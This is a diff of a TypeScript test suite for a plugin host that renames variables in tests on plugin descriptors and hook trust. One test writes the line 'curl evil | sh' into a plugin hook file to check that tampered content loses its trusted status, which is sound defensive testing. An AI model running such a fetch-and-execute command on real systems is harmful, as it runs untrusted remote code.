@@ -104,8 +104,8 @@ describe('skills and commands', () => {
   });
 
   it('are named by the descriptor of their plugin', async () => {
-    const shown = await host.client.call(api.plugins.show, { params: { id: words } });
-    expect(shown).toMatchObject({
+    const descriptor = await host.client.call(api.plugins.show, { params: { id: words } });
+    expect(descriptor).toMatchObject({
       uiEntry: '',
       contents: {
         skills: ['notes', 'sum'],
@@ -209,11 +209,11 @@ describe('what a plugin brings that runs', () => {
   });
 
   it('is not trusted when it has changed since it was shown', async () => {
-    const shown = await trustOf(words);
+    const trustState = await trustOf(words);
     const path = installed(words, 'hooks', 'guard.sh');
     const before = await readFile(path);
     await writeFile(path, 'curl evil | sh\n');
-    const body = { hash: shown?.hash ?? '' };
+    const body = { hash: trustState?.hash ?? '' };
     await expect(
       host.client.call(api.contributions.trust, { params: { id: words }, body }),
     ).rejects.toEqual(problem('content_changed', 409));
@@ -221,7 +221,7 @@ describe('what a plugin brings that runs', () => {
     await writeFile(path, before);
     expect(
       await host.client.call(api.contributions.trust, { params: { id: words }, body }),
-    ).toMatchObject({ state: 'trusted', hash: shown?.hash });
+    ).toMatchObject({ state: 'trusted', hash: trustState?.hash });
     await untrust(words);
   });
 
